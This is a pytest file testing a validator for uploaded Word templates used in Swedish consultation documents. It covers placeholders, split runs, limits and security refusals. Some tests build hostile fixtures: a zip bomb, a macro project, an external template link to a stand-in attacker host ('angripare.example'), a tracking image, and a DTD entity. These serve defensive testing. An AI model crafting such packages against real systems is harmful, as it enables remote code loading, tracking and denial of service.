"""Checks on uploaded templates: zip limits, macros, external links, placeholders, split runs."""

from __future__ import annotations

import io
import zipfile

import pytest
from docx import Document

from remiss.documents import check_template, render_document, sample_context
from remiss.documents.fields import usage
from remiss.documents.render import default_template

from .conftest import W_NS, all_text, body_lines, to_bytes

RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


def test_shipped_templates_pass():
    for kind in ("yttrande", "tjansteskrivelse", "missiv", "sammanstallning"):
        report = check_template(kind, default_template(kind))
        assert report.ok and not report.errors and not report.warnings, report
        assert report.preview and body_lines(report.preview)
        assert "titel" in report.placeholders and "diarienummer" in report.placeholders


def test_custom_uploaded_template_renders():
    doc = Document()
    doc.sections[0].header.paragraphs[0].text = "{{ organisation }} – {{ namnd }} – Dnr {{ diarienummer }}"
    doc.add_heading("{{ titel }}", level=1)
    doc.add_paragraph("Er beteckning {{ remittent_diarienummer }}, {{ datum }}")
    doc.add_paragraph("{%p for f in fragor %}")
    doc.add_heading("{{ loop.index }}. {{ f.fraga }}", level=2)
    doc.add_paragraph("{%p for s in f.svar %}")
    doc.add_paragraph("{{ s }}")
    doc.add_paragraph("{%p endfor %}")
    doc.add_paragraph("{%p endfor %}")
    table = doc.add_table(rows=3, cols=2)  # a row loop: the for and endfor rows disappear
    table.cell(0, 0).text = "{%tr for u in signaturer %}"
    table.cell(1, 0).text, table.cell(1, 1).text = "{{ u.roll }}", "{{ u.namn }}"
    table.cell(2, 0).text = "{%tr endfor %}"
    data = to_bytes(doc)

    report = check_template("yttrande", data)
    assert report.ok, report.errors
    assert {"fragor[].fraga", "signaturer[].namn", "remittent_diarienummer"} <= set(report.placeholders)
    ctx = sample_context("yttrande")
    text = all_text(render_document("yttrande", ctx, data))
    assert "Malmö stad – Stadsområdesnämnd Öster – Dnr SOFÖ-2015-811" in text
    assert f"1. {ctx['fragor'][0]['fraga']}" in text and f"5. {ctx['fragor'][4]['fraga']}" in text
    rendered = Document(io.BytesIO(render_document("yttrande", ctx, data)))
    cells = [[c.text for c in r.cells] for r in rendered.tables[0].rows]
    assert cells == [["Ordförande", "Andreas Konstantinides"], ["Stadsområdesdirektör", "Britt-Marie Pettersson"]]


def test_unknown_placeholder_is_named_with_its_paragraph(make_template):
    report = check_template("yttrande", make_template("{{ titel }}", "Hej", "Svar: {{ frågor }} {{ var_referens.telefon }}"))
    assert not report.ok
    place = "i brödtexten, i stycket som börjar ”Svar: {{ frågor }} {{ …”"
    assert any(f"”{{{{ frågor }}}}” {place}" in e and "Menade du ”{{ fragor }}”?" in e for e in report.errors), report.errors
    assert any(f"”{{{{ var_referens.telefon }}}}” {place}" in e for e in report.errors)


def test_unknown_loop_field_is_named(make_template):
    report = check_template("yttrande", make_template("{%p for f in fragor %}", "{{ f.fråga }}", "{%p endfor %}"))
    # quoted as written, not as the path "fragor[].fråga" that nobody wrote (walk25b Z6)
    assert any("”{{ f.fråga }}” i brödtexten, i stycket som börjar ”{{ f.fråga }}”" in e
               and "Menade du ”{{ f.fraga }}” (i en {%p for f in fragor %}-loop)?" in e for e in report.errors), report.errors


def test_syntax_error_is_located(make_template):
    report = check_template("yttrande", make_template("{{ titel }}", "{%p for f in fragor %}", "{{ f.fraga }}"))
    assert report.errors == ["Blocket ”{%p for f in fragor %}” i brödtexten, i stycket som börjar ”{%p for f in "
                             "fragor %}” avslutas aldrig i brödtexten. Lägg till ett eget stycke med {%p endfor %} "
                             "där blocket ska sluta."]
    assert report.warnings == []  # no false "inga platshållare"


def test_placeholder_split_by_tracked_change_is_detected(make_template):
    deleted = f'<w:del {W_NS} w:id="1" w:author="A" w:date="2015-09-01T00:00:00Z"><w:r><w:delText>x</w:delText></w:r></w:del>'
    report = check_template("yttrande", make_template("Hej", ["Titel: {", deleted, "{ titel }}"]))
    assert not report.ok
    assert any("”{{ titel }}” är delad av Word i flera delar i brödtexten, i stycket som börjar ”Titel: {{ titel }}”" in e and "i ett svep" in e
               for e in report.errors), report.errors


def test_placeholder_split_across_paragraphs_is_detected(make_template):
    report = check_template("yttrande", make_template("Remittent: {{ remit", "tent }}"))
    assert not report.ok
    assert any("”{{ remit”" in e and "stycket som börjar ”Remittent: {{ remit”" in e and "två stycken" in e
               and "stycket som börjar ”tent }}”" in e
               for e in report.errors), report.errors


def test_runs_split_by_spell_check_are_fine_because_docxtpl_merges_them(make_template):
    proof = f'<w:proofErr {W_NS} w:type="spellStart"/>'
    template = make_template(["{", proof, "{ ti", proof, "tel }", "}"], ["{{ da", "tum }}"])
    report = check_template("yttrande", template)
    assert report.ok, report.errors
    lines = body_lines(render_document("yttrande", sample_context("yttrande"), template))
    assert [t for _, t in lines] == [sample_context("yttrande")["titel"], "24 september 2015"]


def test_zip_bomb_is_refused(make_template, rezip):
    bomb = rezip(make_template("{{ titel }}"), add={"word/media/image1.png": b"\0" * 200_000_000})
    assert len(bomb) < 1_000_000
    report = check_template("yttrande", bomb)
    assert not report.ok and report.preview is None
    assert any("zip-bomb" in e and "word/media/image1.png" in e for e in report.errors), report.errors


def test_too_many_entries_and_too_large_file_are_refused(make_template, rezip):
    many = rezip(make_template("x"), add={f"customXml/extra{i}.xml": b"<a/>" for i in range(1200)})
    assert any("delar; en Word-mall får innehålla högst 1000" in e for e in check_template("yttrande", many).errors)
    big = check_template("yttrande", make_template("x"), max_bytes=1000)
    assert big.errors and "gränsen är 1\xa0000 byte för en mall" in big.errors[0]  # digit groups (walk24 V4)
    # only the limit and one byte read: no size is made up, "larger than" is all that is known (walk13b finding 2)
    part = check_template("yttrande", make_template("x")[:1001], max_bytes=1000)
    assert part.errors == ["Filen är större än gränsen på 1\xa0000 byte för en mall."]


def test_not_a_zip_and_old_doc_are_refused():
    assert "zip-arkiv" in check_template("yttrande", b"hello").errors[0]
    assert ".doc" in check_template("yttrande", b"\xd0\xcf\x11\xe0" + b"\0" * 100).errors[0]


def test_macro_template_is_refused(make_template, rezip):
    data = make_template("{{ titel }}")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        types = zf.read("[Content_Types].xml").decode()
    types = types.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    macro = rezip(data, replace={"[Content_Types].xml": types.encode()}, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
    report = check_template("yttrande", macro)
    assert not report.ok and any("makron" in e and "word/vbaProject.bin" in e for e in report.errors)


def test_external_relationship_is_refused(make_template, rezip):
    data = make_template("{{ titel }}")
    rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS_NS}">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            'Target="http://angripare.example/mall.dotm" TargetMode="External"/></Relationships>')
    report = check_template("yttrande", rezip(data, add={"word/_rels/settings.xml.rels": rels.encode()}))
    assert not report.ok
    assert any("extern dokumentmall (http://angripare.example/mall.dotm)" in e for e in report.errors), report.errors

    image = rels.replace("attachedTemplate", "image").replace("mall.dotm", "spion.png")
    report = check_template("yttrande", rezip(data, add={"word/_rels/settings.xml.rels": image.encode()}))
    assert any("”image”" in e and "spion.png" in e for e in report.errors), report.errors


def test_dtd_in_a_part_is_refused(make_template, rezip):
    data = make_template("{{ titel }}")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        xml = zf.read("word/document.xml")
    evil = xml.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "aaaa">]>', 1)
    report = check_template("yttrande", rezip(data, replace={"word/document.xml": evil}))
    assert any("DTD" in e for e in report.errors)


def test_warns_when_important_fields_are_missing(make_template):
    report = check_template("yttrande", make_template("{{ titel }} {{ datum }}"))
    assert report.ok and any("diarienummer" in w for w in report.warnings)


def _example_template(make_template, name: str, code: str) -> bytes:
    """A template made of the field list's example, inside the loops the field lives in."""
    from remiss.documents.fields import LOOP_VARIABLES

    parts = [part for part in code.split(" (")[0].split(" … ")]
    loops, expr = [], None
    for head in name.split("[].")[:-1]:
        var = LOOP_VARIABLES.get(head, "x")
        expr = head if expr is None else f"{loops[-1][0]}.{head}"
        loops.append((var, expr))
    if loops and parts[0].startswith(f"{{%p for {loops[-1][0]} in {loops[-1][1]} %}}"):
        loops.pop()  # the example opens its own innermost loop
    opening = [f"{{%p for {var} in {expr} %}}" for var, expr in loops]
    return make_template(*opening, *parts, *["{%p endfor %}"] * len(loops))


@pytest.mark.parametrize("kind", ["yttrande", "tjansteskrivelse", "sammanstallning"])
def test_every_example_in_the_field_list_works(make_template, kind):
    """The template page shows how to write each field; each of those examples passes the check and prints
    text, never a Python list or dict."""
    for name, code in usage(kind).items():
        report = check_template(kind, _example_template(make_template, name, code))
        assert not report.errors, (name, code, report.errors)
        text = all_text(report.preview)
        assert "['" not in text and "{'" not in text, (name, code, text[:200])


def test_a_placeholder_missing_its_closing_brace_is_named_as_such(make_template):
    """walk13b finding 4: a missing "}" was diagnosed as a placeholder split over several paragraphs."""
    loop = check_template("yttrande", make_template(
        "{{ diarienummer }} {{ datum }} {{ titel }}", "{%p for f in fragor %}", "Fråga: {{ f.fraga }",
        "{%p endfor %}"))
    assert loop.errors == ["Platshållaren ”{{ f.fraga }” i brödtexten, i stycket som börjar ”Fråga: {{ f.fraga }” "
                           "saknar avslutande ”}}”. Skriv ”{{ f.fraga }}”."]
    block = check_template("yttrande", make_template("{% if beslutat %}Beslutat{% endif"))
    assert ("Mallkoden ”{% endif” i brödtexten, i stycket som börjar ”{% if beslutat %}Beslutat{% endif” saknar "
            "avslutande ”%}”. Skriv ”{% endif %}”.") in block.errors
    assert not any("flera stycken" in e or "svep" in e for e in loop.errors + block.errors)
    docxtpl = check_template("yttrande", make_template("{%p for f in fragor %}", "{{ f.fraga }}", "{%p endfor"))
    assert any(e.endswith("Skriv ”{%p endfor %}”.") for e in docxtpl.errors), docxtpl.errors

